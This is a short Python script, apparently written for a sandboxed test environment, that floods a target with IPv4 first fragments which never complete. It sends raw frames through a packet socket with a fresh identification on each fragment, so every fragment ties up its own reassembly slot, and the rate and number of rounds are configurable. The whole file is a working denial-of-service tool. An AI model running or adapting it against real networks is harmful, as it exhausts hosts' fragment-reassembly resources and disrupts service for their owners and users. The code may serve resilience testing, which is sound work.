"""A flood of IPv4 first fragments from eth0 (AF_PACKET, as root of the
sandbox): UDP datagrams to DEST:PORT that never complete, each with an
identification of its own, so each asks for a reassembly slot of its own.

Usage: python3 frag_flood.py GATEWAY_IP GATEWAY_MAC DEST PORT PER_ROUND ROUNDS INTERVAL_MS
Sends PER_ROUND first fragments (1480 bytes of a claimed 8000-byte
datagram, MTU 1500) every INTERVAL_MS, ROUNDS times; prints "sent N".
"""
import socket
import struct
import sys
import time

import frames

gw_mac = frames.mac(sys.argv[2])
dest = socket.inet_aton(sys.argv[3])
port = int(sys.argv[4])
per_round, rounds, interval = int(sys.argv[5]), int(sys.argv[6]), int(sys.argv[7]) / 1000
s, me, my_ip = frames.eth0(sys.argv[1])

udp = struct.pack("!HHHH", 40000, port, 8000, 0) + b"F" * (1480 - 8)
sent, ident = 0, 0
for _ in range(rounds):
    start = time.monotonic()
    for _ in range(per_round):
        ident = (ident + 1) & 0xFFFF
        # More fragments, offset 0: a first fragment whose rest never comes.
        packet = frames.ipv4(my_ip, dest, 17, udp, frag=0x2000, ident=ident)
        s.send(gw_mac + me + b"\x08\x00" + packet)
        sent += 1
    time.sleep(max(0.0, interval - (time.monotonic() - start)))
print(f"sent {sent}")
